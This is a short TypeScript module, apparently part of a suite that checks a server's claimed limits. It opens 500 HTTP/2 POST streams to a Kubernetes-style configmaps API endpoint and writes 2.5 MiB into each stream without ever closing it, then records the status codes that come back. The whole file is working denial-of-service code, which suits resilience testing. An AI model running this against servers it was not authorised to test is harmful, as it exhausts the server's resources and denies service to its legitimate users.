import { bearer, count, openSession, repeat, summary } from "../lib/hostile.ts";
import { type Attack } from "./attack.ts";

const streams = 500;
const part = Buffer.alloc(64 << 10, " ");

export const attack: Attack = {
  name: "half-sent streams",
  claim: "bytes per user are limited; 60 s for a body",
  needs: "server",

  async run(target, signal) {
    const answers = new Map<string, number>();
    await repeat(signal, async () => {
      const sessions = Array.from({ length: 4 }, () => openSession(target, signal));
      const one = (n: number): Promise<void> =>
        new Promise((resolve) => {
          const path = `/api/v1/namespaces/${target.namespace}/configmaps`;
          const session = sessions[n % sessions.length];
          const stream = session?.request({ ":method": "POST", ":path": path, ...bearer(target) });
          if (!stream) return resolve();
          stream.on("error", () => {});
          stream.on("response", ({ ":status": status = 0 }) => count(answers, status));
          stream.on("close", resolve);
          for (let sent = 0; sent < 40; sent++) stream.write(part);
        });
      await Promise.all(Array.from({ length: streams }, (_, n) => one(n)));
      for (const session of sessions) session.destroy();
    });
    return `streams of 2.5 MiB that do not end: ${summary(answers)}`;
  },
};
